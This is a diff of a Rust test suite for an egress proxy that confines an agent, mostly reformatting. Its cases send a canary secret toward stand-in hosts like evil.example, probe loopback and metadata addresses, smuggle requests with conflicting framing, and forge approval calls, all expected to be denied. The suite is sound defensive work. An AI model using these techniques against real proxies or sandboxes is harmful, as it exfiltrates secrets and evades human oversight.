@@ -25,8 +25,8 @@ use bottle_policy::Route;
 use common::{Fixture, KNOWN_SECRET, TOKEN_VALUE, prefix_rule};
 use escape::{Agent, RawSink, Reply, Send, contains, ws_frame};
 
-/// The synthetic secret every attack tries to get out. The proxy knows it as a known
-/// secret value, as it would a value copied from the host's environment.
+/// The synthetic secret every attack tries to get out. The proxy is configured with it
+/// as a known secret value, like a value copied from the host's environment.
 const CANARY: &str = KNOWN_SECRET;
 
 const API: &str = "api.allowed.example";
@@ -488,7 +488,8 @@ async fn run_case(world: &World, index: usize, case: &Case) -> Vec<String> {
     if records.len() != from_upstream {
         let paths: Vec<&str> = records.iter().map(|r| r.path.as_str()).collect();
         fail(format!(
-            "{} requests reached the upstream ({paths:?}) for {from_upstream} upstream answers; {seen}",
+            "{} requests reached the upstream ({paths:?}) for {from_upstream} upstream \
+             responses; {seen}",
             records.len()
         ));
     }
@@ -733,14 +734,32 @@ fn routing_cases(world: &World) -> Vec<Case> {
             api(),
             Send::Concurrent(
                 (0..200)
-                    .map(|i| connect(["evil.example:443", "other.example:443", "nonexistent.invalid:443"][i % 3]))
+                    .map(|i| {
+                        connect(
+                            [
+                                "evil.example:443",
+                                "other.example:443",
+                                "nonexistent.invalid:443",
+                            ][i % 3],
+                        )
+                    })
                     .collect(),
             ),
             denied("default"),
         ),
         // CONNECT to other ports and host services.
-        Case::new("allowed host on a non-default TLS port", api(), connect("api.allowed.example:8443"), denied("default")),
-        Case::new("allowed host on the SSH port", api(), connect("api.allowed.example:22"), denied("default")),
+        Case::new(
+            "allowed host on a non-default TLS port",
+            api(),
+            connect("api.allowed.example:8443"),
+            denied("default"),
+        ),
+        Case::new(
+            "allowed host on the SSH port",
+            api(),
+            connect("api.allowed.example:22"),
+            denied("default"),
+        ),
         Case::new(
             "host service by loopback address and port",
             api(),
@@ -748,9 +767,19 @@ fn routing_cases(world: &World) -> Vec<Case> {
             denied("default"),
         )
         .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
-        Case::new("host service by the name localhost", api(), connect(&format!("localhost:{raw_port}")), denied("default"))
-            .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
-        Case::new("container host gateway name", api(), connect("host.docker.internal:2375"), denied("default")),
+        Case::new(
+            "host service by the name localhost",
+            api(),
+            connect(&format!("localhost:{raw_port}")),
+            denied("default"),
+        )
+        .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
+        Case::new(
+            "container host gateway name",
+            api(),
+            connect("host.docker.internal:2375"),
+            denied("default"),
+        ),
         Case::new(
             "absolute-form request to a host service port",
             api(),
@@ -765,11 +794,20 @@ fn routing_cases(world: &World) -> Vec<Case> {
         )
         .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
         // IP literals and missing SNI.
-        Case::new("sink IP literal", api(), connect(&format!("127.0.0.1:{sink_port}")), denied("default")),
+        Case::new(
+            "sink IP literal",
+            api(),
+            connect(&format!("127.0.0.1:{sink_port}")),
+            denied("default"),
+        ),
         Case::new(
             "numeric IPv4 shorthand forms",
             api(),
-            Send::Concurrent(vec![connect("2130706433:443"), connect("0x7f.0.0.1:443"), connect("127.1:443")]),
+            Send::Concurrent(vec![
+                connect("2130706433:443"),
+                connect("0x7f.0.0.1:443"),
+                connect("127.1:443"),
+            ]),
             denied("protocol"),
         ),
         Case::new(
@@ -780,10 +818,17 @@ fn routing_cases(world: &World) -> Vec<Case> {
                 sni: None,
                 bytes: http1("GET", "/", API, &[("X-Trace", CANARY)], b""),
             },
-            Expect::Closed { reason: "TLS ClientHello has no SNI" },
+            Expect::Closed {
+                reason: "TLS ClientHello has no SNI",
+            },
         ),
         // IPv6 and IPv4-mapped literals.
-        Case::new("IPv6 loopback literal", api(), connect(&format!("[::1]:{sink_port}")), denied("default")),
+        Case::new(
+            "IPv6 loopback literal",
+            api(),
+            connect(&format!("[::1]:{sink_port}")),
+            denied("default"),
+        ),
         Case::new(
             "IPv4-mapped IPv6 literal",
             api(),
@@ -797,7 +842,13 @@ fn routing_cases(world: &World) -> Vec<Case> {
             Send::Tunnel {
                 authority: format!("127.0.0.1:{sink_port}"),
                 sni: Some(API.to_owned()),
-                bytes: http1("GET", "/", API, &[("Authorization", "Bearer placeholder")], b""),
+                bytes: http1(
+                    "GET",
+                    "/",
+                    API,
+                    &[("Authorization", "Bearer placeholder")],
+                    b"",
+                ),
             },
             denied("default"),
         )
@@ -805,7 +856,10 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "inner Host differs from the CONNECT host",
             api(),
-            tunnel(API_AUTHORITY, http1("GET", "/", "evil.example", &[("X-Trace", CANARY)], b"")),
+            tunnel(
+                API_AUTHORITY,
+                http1("GET", "/", "evil.example", &[("X-Trace", CANARY)], b""),
+            ),
             denied("protocol"),
         ),
         Case::new(
@@ -816,12 +870,20 @@ fn routing_cases(world: &World) -> Vec<Case> {
                 sni: Some(OTHER.to_owned()),
                 bytes: http1("GET", "/", OTHER, &[], b""),
             },
-            Expect::Closed { reason: "TLS SNI does not match the CONNECT host" },
+            Expect::Closed {
+                reason: "TLS SNI does not match the CONNECT host",
+            },
         ),
         Case::new(
             "absolute-form Host header differs from the URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1("GET", &format!("http://{PLAIN}/"), "evil.example", &[], b"")),
+            Send::Outer(http1(
+                "GET",
+                &format!("http://{PLAIN}/"),
+                "evil.example",
+                &[],
+                b"",
+            )),
             denied("protocol"),
         )
         .control(plain_get("/"), Reach::Recorded),
@@ -842,14 +904,17 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "desync with Content-Length and chunked together",
             vec![ok_only.clone()],
-            plain_desync("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
+            plain_desync(
+                "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
+                "0\r\n\r\n",
+            ),
             // The parser reads the body as chunked and closes the connection after the
             // answer, so the smuggled request is never parsed.
             Expect::Statuses(vec![200]),
         )
         .control(plain_get("/ok"), Reach::Recorded)
         // TODO(protocol): refuse Content-Length with Transfer-Encoding with 400.
-        .gap("ambiguous framing is answered and the connection closed instead of refused with 400"),
+        .gap("ambiguous framing is accepted instead of refused with 400"),
         Case::new(
             "desync with two different Content-Length headers",
             vec![ok_only.clone()],
@@ -874,14 +939,20 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "desync with whitespace before the header colon",
             vec![ok_only.clone()],
-            plain_desync("Transfer-Encoding : chunked\r\nContent-Length: 0\r\n", "0\r\n\r\n"),
+            plain_desync(
+                "Transfer-Encoding : chunked\r\nContent-Length: 0\r\n",
+                "0\r\n\r\n",
+            ),
             Expect::Malformed,
         )
         .control(plain_get("/ok"), Reach::Recorded),
         Case::new(
             "desync with an obsolete folded header",
             vec![ok_only.clone()],
-            plain_desync("Content-Length: 0\r\nX-Fold: a\r\n Transfer-Encoding: chunked\r\n", "0\r\n\r\n"),
+            plain_desync(
+                "Content-Length: 0\r\nX-Fold: a\r\n Transfer-Encoding: chunked\r\n",
+                "0\r\n\r\n",
+            ),
             Expect::Malformed,
         )
         .control(plain_get("/ok"), Reach::Recorded),
@@ -889,14 +960,17 @@ fn routing_cases(world: &World) -> Vec<Case> {
             "request with bare LF line ends to a denied path",
             vec![ok_only.clone()],
             Send::Outer(
-                format!("GET http://{PLAIN}/admin HTTP/1.1\nHost: {PLAIN}\nX-Trace: {CANARY}\nConnection: close\n\n")
-                    .into_bytes(),
+                format!(
+                    "GET http://{PLAIN}/admin HTTP/1.1\nHost: {PLAIN}\nX-Trace: {CANARY}\n\
+                     Connection: close\n\n"
+                )
+                .into_bytes(),
             ),
             denied("route[0]"),
         )
         .control(plain_get("/ok"), Reach::Recorded)
         // TODO(protocol): refuse bare LF line ends with 400.
-        .gap("bare LF line ends are accepted by the parser instead of refused with 400"),
+        .gap("bare LF line ends are accepted instead of refused with 400"),
         Case::new(
             "desync with a hexadecimal-prefixed chunk size",
             vec![ok_only.clone()],
@@ -915,19 +989,28 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "whitespace inside the request-target",
             vec![ok_only.clone()],
-            Send::Outer(http1("GET", &format!("http://{PLAIN}/ok /admin"), PLAIN, &[("X-Trace", CANARY)], b"")),
+            Send::Outer(http1(
+                "GET",
+                &format!("http://{PLAIN}/ok /admin"),
+                PLAIN,
+                &[("X-Trace", CANARY)],
+                b"",
+            )),
             Expect::Malformed,
         )
         .control(plain_get("/ok"), Reach::Recorded),
         Case::new(
             "desync with Content-Length and chunked inside a tunnel",
             vec![api_ok_only.clone()],
-            tunnel_desync("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
+            tunnel_desync(
+                "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
+                "0\r\n\r\n",
+            ),
             Expect::Statuses(vec![200]),
         )
         .control(tunnel_get(API_AUTHORITY, "/ok"), Reach::Recorded)
         // TODO(protocol): refuse Content-Length with Transfer-Encoding with 400.
-        .gap("ambiguous framing is answered and the connection closed instead of refused with 400"),
+        .gap("ambiguous framing is accepted instead of refused with 400"),
         Case::new(
             "desync with two Content-Length headers inside a tunnel",
             vec![api_ok_only.clone()],
@@ -939,35 +1022,58 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "HTTP/2 content-length differs from the DATA length",
             vec![api_ok_only.clone()],
-            h2(h2_headers("POST", "/ok", &[("content-length", b"3")]), Some(format!("token={CANARY}").as_bytes())),
+            h2(
+                h2_headers("POST", "/ok", &[("content-length", b"3")]),
+                Some(format!("token={CANARY}").as_bytes()),
+            ),
             Expect::Reset,
         )
         .control(h2(h2_headers("GET", "/ok", &[]), None), Reach::Recorded),
         Case::new(
             "HTTP/2 header value with CR LF",
             vec![api_ok_only.clone()],
-            h2(h2_headers("GET", "/ok", &[("x-trace", format!("a\r\nX-Smuggled: {CANARY}").as_bytes())]), None),
+            h2(
+                h2_headers(
+                    "GET",
+                    "/ok",
+                    &[("x-trace", format!("a\r\nX-Smuggled: {CANARY}").as_bytes())],
+                ),
+                None,
+            ),
             Expect::Reset,
         )
         .control(h2(h2_headers("GET", "/ok", &[]), None), Reach::Recorded),
         Case::new(
             "HTTP/2 upper-case header name",
             vec![api_ok_only.clone()],
-            h2(h2_headers("GET", "/ok", &[("X-Trace", CANARY.as_bytes())]), None),
+            h2(
+                h2_headers("GET", "/ok", &[("X-Trace", CANARY.as_bytes())]),
+                None,
+            ),
             Expect::Reset,
         )
         .control(h2(h2_headers("GET", "/ok", &[]), None), Reach::Recorded),
         Case::new(
             "HTTP/2 :authority and host disagree",
             vec![api_ok_only.clone()],
-            h2(h2_headers("GET", "/ok", &[("host", b"evil.example"), ("x-trace", CANARY.as_bytes())]), None),
+            h2(
+                h2_headers(
+                    "GET",
+                    "/ok",
+                    &[("host", b"evil.example"), ("x-trace", CANARY.as_bytes())],
+                ),
+                None,
+            ),
             Expect::Http2Refused { rule: "protocol" },
         )
         .control(h2(h2_headers("GET", "/ok", &[]), None), Reach::Recorded),
         Case::new(
             "HTTP/2 :path without a leading slash",
             vec![api_ok_only.clone()],
-            h2(h2_headers("GET", "ok", &[("x-trace", CANARY.as_bytes())]), None),
+            h2(
+                h2_headers("GET", "ok", &[("x-trace", CANARY.as_bytes())]),
+                None,
+            ),
             Expect::Reset,
         )
         .control(h2(h2_headers("GET", "/ok", &[]), None), Reach::Recorded),
@@ -979,7 +1085,11 @@ fn routing_cases(world: &World) -> Vec<Case> {
                 "GET",
                 &format!("http://{PLAIN}/ok"),
                 PLAIN,
-                &[("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")],
+                &[
+                    ("Connection", "Upgrade, HTTP2-Settings"),
+                    ("Upgrade", "h2c"),
+                    ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
+                ],
                 b"",
             )),
             denied("route[0]"),
@@ -988,7 +1098,13 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "custom upgrade on a WebSocket route",
             vec![websocket_route.clone()],
-            tunnel_with(API_AUTHORITY, "GET", "/ok", &[("Connection", "Upgrade"), ("Upgrade", "foo")], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/ok",
+                &[("Connection", "Upgrade"), ("Upgrade", "foo")],
+                b"",
+            ),
             denied("route[0]"),
         ),
         Case::new(
@@ -1002,7 +1118,10 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "HTTP/2 extended CONNECT for WebSocket",
             vec![websocket_route.clone()],
-            h2(h2_headers("CONNECT", "/echo", &[(":protocol", b"websocket")]), Some(&canary_frame)),
+            h2(
+                h2_headers("CONNECT", "/echo", &[(":protocol", b"websocket")]),
+                Some(&canary_frame),
+            ),
             Expect::Reset,
         )
         .control(websocket(vec![frame("hello")], ""), Reach::Echoed),
@@ -1033,7 +1152,11 @@ fn routing_cases(world: &World) -> Vec<Case> {
             vec![websocket_route.clone()],
             websocket(
                 vec![{
-                    let mut frame = ws_frame(true, 0x1, &raw_deflate(format!("token={CANARY}").as_bytes()));
+                    let mut frame = ws_frame(
+                        true,
+                        0x1,
+                        &raw_deflate(format!("token={CANARY}").as_bytes()),
+                    );
                     frame[0] |= 0x40;
                     frame
                 }],
@@ -1050,11 +1173,19 @@ fn routing_cases(world: &World) -> Vec<Case> {
                 (0..4)
                     .map(|_| Send::Distrusting {
                         authority: "tunnel.allowed.example:443".to_owned(),
-                        bytes: http1("POST", "/", "tunnel.allowed.example", &[], CANARY.as_bytes()),
+                        bytes: http1(
+                            "POST",
+                            "/",
+                            "tunnel.allowed.example",
+                            &[],
+                            CANARY.as_bytes(),
+                        ),
                     })
                     .collect(),
             ),
-            Expect::Closed { reason: "TLS handshake with the agent failed" },
+            Expect::Closed {
+                reason: "TLS handshake with the agent failed",
+            },
         )
         .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
         Case::new(
@@ -1062,9 +1193,17 @@ fn routing_cases(world: &World) -> Vec<Case> {
             vec![world.raw_route("tunnel.allowed.example")],
             Send::Plaintext {
                 authority: "tunnel.allowed.example:443".to_owned(),
-                bytes: http1("GET", "/", "tunnel.allowed.example", &[("X-Trace", CANARY)], b""),
+                bytes: http1(
+                    "GET",
+                    "/",
+                    "tunnel.allowed.example",
+                    &[("X-Trace", CANARY)],
+                    b"",
+                ),
             },
-            Expect::Closed { reason: "no TLS ClientHello after CONNECT" },
+            Expect::Closed {
+                reason: "no TLS ClientHello after CONNECT",
+            },
         )
         .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
         // Upstream certificate verification.
@@ -1074,7 +1213,10 @@ fn routing_cases(world: &World) -> Vec<Case> {
             tunnel_get("untrusted.allowed.example:443", "/"),
             upstream_error("route[0]"),
         )
-        .control(tunnel_get("untrusted.allowed.example:443", "/"), Reach::Recorded)
+        .control(
+            tunnel_get("untrusted.allowed.example:443", "/"),
+            Reach::Recorded,
+        )
         .control_routes(vec![world.route("untrusted.allowed.example")]),
         Case::new(
             "upstream certificate for another name",
@@ -1086,16 +1228,29 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "upstream reached by IP without SNI, certificate for another IP",
             vec![world.route("127.0.0.2")],
-            Send::Tunnel { authority: "127.0.0.2:443".to_owned(), sni: None, bytes: http1("GET", "/", "127.0.0.2", &[], b"") },
+            Send::Tunnel {
+                authority: "127.0.0.2:443".to_owned(),
+                sni: None,
+                bytes: http1("GET", "/", "127.0.0.2", &[], b""),
+            },
             upstream_error("route[0]"),
         )
         .control(
-            Send::Tunnel { authority: "127.0.0.1:443".to_owned(), sni: None, bytes: http1("GET", "/", "127.0.0.1", &[], b"") },
+            Send::Tunnel {
+                authority: "127.0.0.1:443".to_owned(),
+                sni: None,
+                bytes: http1("GET", "/", "127.0.0.1", &[], b""),
+            },
             Reach::Recorded,
         )
         .control_routes(vec![world.route("127.0.0.1")]),
         // ECH and cover names.
-        Case::new("ECH cover name", api(), connect("cloudflare-ech.com:443"), denied("default")),
+        Case::new(
+            "ECH cover name",
+            api(),
+            connect("cloudflare-ech.com:443"),
+            denied("default"),
+        ),
         // Redirects.
         Case::new(
             "redirect answer passed back, not followed",
@@ -1106,38 +1261,73 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "redirect hop to an unlisted host with the canary",
             vec![world.fixture.token_route(API)],
-            tunnel_with("evil.example:443", "POST", &format!("/landing?d={CANARY}"), &[("Authorization", "Bearer placeholder")], b"x"),
+            tunnel_with(
+                "evil.example:443",
+                "POST",
+                &format!("/landing?d={CANARY}"),
+                &[("Authorization", "Bearer placeholder")],
+                b"x",
+            ),
             denied("default"),
         )
         .must_not_reach(TOKEN_VALUE),
         // Shared CDN addresses.
-        Case::new("other name on the allowed host's address", api(), tunnel_get("other-on-same-cdn.example:443", "/"), denied("default")),
+        Case::new(
+            "other name on the allowed host's address",
+            api(),
+            tunnel_get("other-on-same-cdn.example:443", "/"),
+            denied("default"),
+        ),
         // Attacker space on an allowlisted host.
         Case::new(
             "gist upload on a read-only route",
             vec![read_only.clone()],
-            tunnel_with(API_AUTHORITY, "POST", "/gists", &[("Authorization", "token attacker-pat-9d1c")], format!("{{\"files\":{{\"a\":{{\"content\":\"{CANARY}\"}}}}}}").as_bytes()),
+            tunnel_with(
+                API_AUTHORITY,
+                "POST",
+                "/gists",
+                &[("Authorization", "token attacker-pat-9d1c")],
+                format!("{{\"files\":{{\"a\":{{\"content\":\"{CANARY}\"}}}}}}").as_bytes(),
+            ),
             denied("route[0]"),
         )
         .control(tunnel_get(API_AUTHORITY, "/repos/a/b"), Reach::Recorded),
         Case::new(
             "GraphQL mutation on a read-only route",
             vec![read_only.clone()],
-            tunnel_with(API_AUTHORITY, "POST", "/graphql", &[], b"{\"query\":\"mutation { createCommitOnBranch }\"}"),
+            tunnel_with(
+                API_AUTHORITY,
+                "POST",
+                "/graphql",
+                &[],
+                b"{\"query\":\"mutation { createCommitOnBranch }\"}",
+            ),
             denied("route[0]"),
         )
         .control(tunnel_get(API_AUTHORITY, "/repos/a/b"), Reach::Recorded),
         Case::new(
             "agent's own Authorization on a token route",
             vec![world.fixture.token_route(API)],
-            tunnel_with(API_AUTHORITY, "GET", "/user", &[("Authorization", "token attacker-pat-9d1c")], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/user",
+                &[("Authorization", "token attacker-pat-9d1c")],
+                b"",
+            ),
             Expect::Statuses(vec![200]),
         )
         .must_not_reach("attacker-pat"),
         Case::new(
             "agent's own API key on a token route",
             vec![world.fixture.token_route(API)],
-            tunnel_with(API_AUTHORITY, "GET", "/user", &[("X-Api-Key", "attacker-key-4e2a")], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/user",
+                &[("X-Api-Key", "attacker-key-4e2a")],
+                b"",
+            ),
             denied("route[0]"),
         )
         .must_not_reach("attacker-key"),
@@ -1145,46 +1335,124 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "method override header on a GET-only route",
             vec![get_only.clone()],
-            tunnel_with(API_AUTHORITY, "GET", "/x", &[("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "DELETE")], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/x",
+                &[
+                    ("X-HTTP-Method-Override", "DELETE"),
+                    ("X-Method-Override", "DELETE"),
+                ],
+                b"",
+            ),
             Expect::Statuses(vec![200]),
         )
         .must_not_reach("method-override"),
-        Case::new("lower-case method on a GET-only route", vec![get_only.clone()], tunnel_with(API_AUTHORITY, "get", "/x", &[], b""), denied("route[0]")),
+        Case::new(
+            "lower-case method on a GET-only route",
+            vec![get_only.clone()],
+            tunnel_with(API_AUTHORITY, "get", "/x", &[], b""),
+            denied("route[0]"),
+        ),
         Case::new(
             "batch endpoint POST on a GET-only route",
             vec![get_only.clone()],
-            tunnel_with(API_AUTHORITY, "POST", "/batch", &[], b"[{\"method\":\"DELETE\"}]"),
+            tunnel_with(
+                API_AUTHORITY,
+                "POST",
+                "/batch",
+                &[],
+                b"[{\"method\":\"DELETE\"}]",
+            ),
             denied("route[0]"),
         ),
         // Host normalization.
-        Case::new("double trailing dot", api(), connect("api.allowed.example..:443"), denied("protocol"))
-            .control(tunnel_get("API.Allowed.Example.:443", "/"), Reach::Recorded),
-        Case::new("allowed name followed by an attacker domain", api(), connect("api.allowed.example.evil.example:443"), denied("default")),
-        Case::new("allowed name without a label boundary", api(), connect("xapi.allowed.example:443"), denied("default")),
-        Case::new("subdomain of an apex-only route", api(), connect("sub.api.allowed.example:443"), denied("default")),
-        Case::new("Cyrillic homograph of the allowed name", api(), connect("\u{430}pi.allowed.example:443"), Expect::Malformed),
-        Case::new("A-label of the homograph", api(), connect("xn--pi-6kc.allowed.example:443"), denied("default")),
-        Case::new("unlisted host with a trailing dot", api(), connect("evil.example.:443"), denied("default")),
-        Case::new("metadata address with a trailing dot", api(), connect("169.254.169.254.:443"), denied("default")),
+        Case::new(
+            "double trailing dot",
+            api(),
+            connect("api.allowed.example..:443"),
+            denied("protocol"),
+        )
+        .control(tunnel_get("API.Allowed.Example.:443", "/"), Reach::Recorded),
+        Case::new(
+            "allowed name followed by an attacker domain",
+            api(),
+            connect("api.allowed.example.evil.example:443"),
+            denied("default"),
+        ),
+        Case::new(
+            "allowed name without a label boundary",
+            api(),
+            connect("xapi.allowed.example:443"),
+            denied("default"),
+        ),
+        Case::new(
+            "subdomain of an apex-only route",
+            api(),
+            connect("sub.api.allowed.example:443"),
+            denied("default"),
+        ),
+        Case::new(
+            "Cyrillic homograph of the allowed name",
+            api(),
+            connect("\u{430}pi.allowed.example:443"),
+            Expect::Malformed,
+        ),
+        Case::new(
+            "A-label of the homograph",
+            api(),
+            connect("xn--pi-6kc.allowed.example:443"),
+            denied("default"),
+        ),
+        Case::new(
+            "unlisted host with a trailing dot",
+            api(),
+            connect("evil.example.:443"),
+            denied("default"),
+        ),
+        Case::new(
+            "metadata address with a trailing dot",
+            api(),
+            connect("169.254.169.254.:443"),
+            denied("default"),
+        ),
         // URL parser differentials.
         Case::new(
             "backslash before userinfo in an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1("GET", &format!("http://{PLAIN}\\@evil.example/"), PLAIN, &[], b"")),
+            Send::Outer(http1(
+                "GET",
+                &format!("http://{PLAIN}\\@evil.example/"),
+                PLAIN,
+                &[],
+                b"",
+            )),
             Expect::Malformed,
         )
         .control(plain_get("/"), Reach::Recorded),
         Case::new(
             "userinfo in an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1("GET", &format!("http://{PLAIN}:pw@evil.example/"), "evil.example", &[], b"")),
+            Send::Outer(http1(
+                "GET",
+                &format!("http://{PLAIN}:pw@evil.example/"),
+                "evil.example",
+                &[],
+                b"",
+            )),
             denied("protocol"),
         )
         .control(plain_get("/"), Reach::Recorded),
         Case::new(
             "fragment before userinfo in an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1("GET", &format!("http://{PLAIN}#@evil.example/"), PLAIN, &[("X-Probe", "fragment")], b"")),
+            Send::Outer(http1(
+                "GET",
+                &format!("http://{PLAIN}#@evil.example/"),
+                PLAIN,
+                &[("X-Probe", "fragment")],
+                b"",
+            )),
             // The URI parser drops the fragment, so policy and dialer both see the
             // allowed host and evil.example is never contacted.
             Expect::Statuses(vec![200]),
@@ -1196,11 +1464,22 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "tab inside an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1("GET", &format!("http://{PLAIN}\t.evil.example/"), PLAIN, &[], b"")),
+            Send::Outer(http1(
+                "GET",
+                &format!("http://{PLAIN}\t.evil.example/"),
+                PLAIN,
+                &[],
+                b"",
+            )),
             Expect::Malformed,
         )
         .control(plain_get("/"), Reach::Recorded),
-        Case::new("userinfo in the CONNECT authority", api(), connect("user@api.allowed.example:443"), denied("protocol")),
+        Case::new(
+            "userinfo in the CONNECT authority",
+            api(),
+            connect("user@api.allowed.example:443"),
+            denied("protocol"),
+        ),
         // SSRF pivots: names and literals that resolve to internal addresses.
         Case::new(
             "allowlisted name resolving to loopback",
@@ -1213,22 +1492,38 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "allowlisted loopback IP literal",
             vec![world.resolved_route("127.0.0.1")],
-            Send::Tunnel { authority: "127.0.0.1:443".to_owned(), sni: None, bytes: http1("GET", "/", "127.0.0.1", &[], b"") },
+            Send::Tunnel {
+                authority: "127.0.0.1:443".to_owned(),
+                sni: None,
+                bytes: http1("GET", "/", "127.0.0.1", &[], b""),
+            },
             upstream_error("route[0]"),
         )
         .control(
-            Send::Tunnel { authority: "127.0.0.1:443".to_owned(), sni: None, bytes: http1("GET", "/", "127.0.0.1", &[], b"") },
+            Send::Tunnel {
+                authority: "127.0.0.1:443".to_owned(),
+                sni: None,
+                bytes: http1("GET", "/", "127.0.0.1", &[], b""),
+            },
             Reach::Recorded,
         )
         .control_routes(vec![world.route("127.0.0.1")]),
         Case::new(
             "allowlisted IPv4-mapped loopback literal",
             vec![world.resolved_route("::ffff:127.0.0.1")],
-            Send::Tunnel { authority: "[::ffff:127.0.0.1]:443".to_owned(), sni: None, bytes: http1("GET", "/", "[::ffff:127.0.0.1]", &[], b"") },
+            Send::Tunnel {
+                authority: "[::ffff:127.0.0.1]:443".to_owned(),
+                sni: None,
+                bytes: http1("GET", "/", "[::ffff:127.0.0.1]", &[], b""),
+            },
             upstream_error("route[0]"),
         )
         .control(
-            Send::Tunnel { authority: "[::ffff:127.0.0.1]:443".to_owned(), sni: None, bytes: http1("GET", "/", "[::ffff:127.0.0.1]", &[], b"") },
+            Send::Tunnel {
+                authority: "[::ffff:127.0.0.1]:443".to_owned(),
+                sni: None,
+                bytes: http1("GET", "/", "[::ffff:127.0.0.1]", &[], b""),
+            },
             Reach::Recorded,
         )
         .control_routes(vec![world.route("::ffff:127.0.0.1")]),
@@ -1242,26 +1537,50 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "Proxy-Authorization naming another bottle",
             api(),
-            Send::Outer(format!("CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\nProxy-Authorization: {proxy_auth}\r\nConnection: close\r\n\r\n").into_bytes()),
+            Send::Outer(
+                format!(
+                    "CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\
+                 Proxy-Authorization: {proxy_auth}\r\nConnection: close\r\n\r\n"
+                )
+                .into_bytes(),
+            ),
             denied("default"),
         ),
         Case::new(
             "Proxy-Authorization inside a tunnel",
             api(),
-            tunnel_with(API_AUTHORITY, "GET", "/", &[("Proxy-Authorization", proxy_auth)], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/",
+                &[("Proxy-Authorization", proxy_auth)],
+                b"",
+            ),
             Expect::Statuses(vec![200]),
         )
         .must_not_reach("Ym90dGxlLWI6eA"),
         Case::new(
             "approval request to the magic host",
             api(),
-            tunnel_with("bottle.internal:443", "POST", "/queue/approve", &[], b"{\"id\":\"1\"}"),
+            tunnel_with(
+                "bottle.internal:443",
+                "POST",
+                "/queue/approve",
+                &[],
+                b"{\"id\":\"1\"}",
+            ),
             not_found("bottle.internal"),
         ),
         Case::new(
             "approval request to the magic host over plain HTTP",
             api(),
-            Send::Outer(http1("POST", "http://bottle.internal/approve", "bottle.internal", &[], b"{}")),
+            Send::Outer(http1(
+                "POST",
+                "http://bottle.internal/approve",
+                "bottle.internal",
+                &[],
+                b"{}",
+            )),
             not_found("bottle.internal"),
         ),
     ]
@@ -1276,21 +1595,51 @@ fn dns_cases(world: &World) -> Vec<Case> {
     let label = base32(CANARY.as_bytes());
 
     vec![
-        Case::new("DNS over HTTPS GET on an allowed host", api(), tunnel_get(API_AUTHORITY, "/dns-query?dns=AAABAAABAAAAAAAAA2V2aWwHZXhhbXBsZQAAAQAB"), denied("dns-over-https")),
+        Case::new(
+            "DNS over HTTPS GET on an allowed host",
+            api(),
+            tunnel_get(
+                API_AUTHORITY,
+                "/dns-query?dns=AAABAAABAAAAAAAAA2V2aWwHZXhhbXBsZQAAAQAB",
+            ),
+            denied("dns-over-https"),
+        ),
         Case::new(
             "DNS over HTTPS JSON on an allowed host",
             api(),
-            tunnel_with(API_AUTHORITY, "GET", "/resolve?name=evil.example", &[("Accept", "application/dns-json")], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/resolve?name=evil.example",
+                &[("Accept", "application/dns-json")],
+                b"",
+            ),
             denied("dns-over-https"),
         ),
         Case::new(
             "DNS over HTTPS POST on an allowed host",
             api(),
-            tunnel_with(API_AUTHORITY, "POST", "/q", &[("Content-Type", "application/dns-message")], b"\x00\x00\x01\x00"),
+            tunnel_with(
+                API_AUTHORITY,
+                "POST",
+                "/q",
+                &[("Content-Type", "application/dns-message")],
+                b"\x00\x00\x01\x00",
+            ),
             denied("dns-over-https"),
         ),
-        Case::new("public resolver name even when routed", vec![world.route("dns.google"), world.route(API)], connect("dns.google:443"), denied("dns-over-https")),
-        Case::new("DNS over TLS port even when routed", vec![dot, world.route(API)], connect("api.allowed.example:853"), denied("dns-over-https")),
+        Case::new(
+            "public resolver name even when routed",
+            vec![world.route("dns.google"), world.route(API)],
+            connect("dns.google:443"),
+            denied("dns-over-https"),
+        ),
+        Case::new(
+            "DNS over TLS port even when routed",
+            vec![dot, world.route(API)],
+            connect("api.allowed.example:853"),
+            denied("dns-over-https"),
+        ),
         Case::new(
             "canary as a label of an unlisted host",
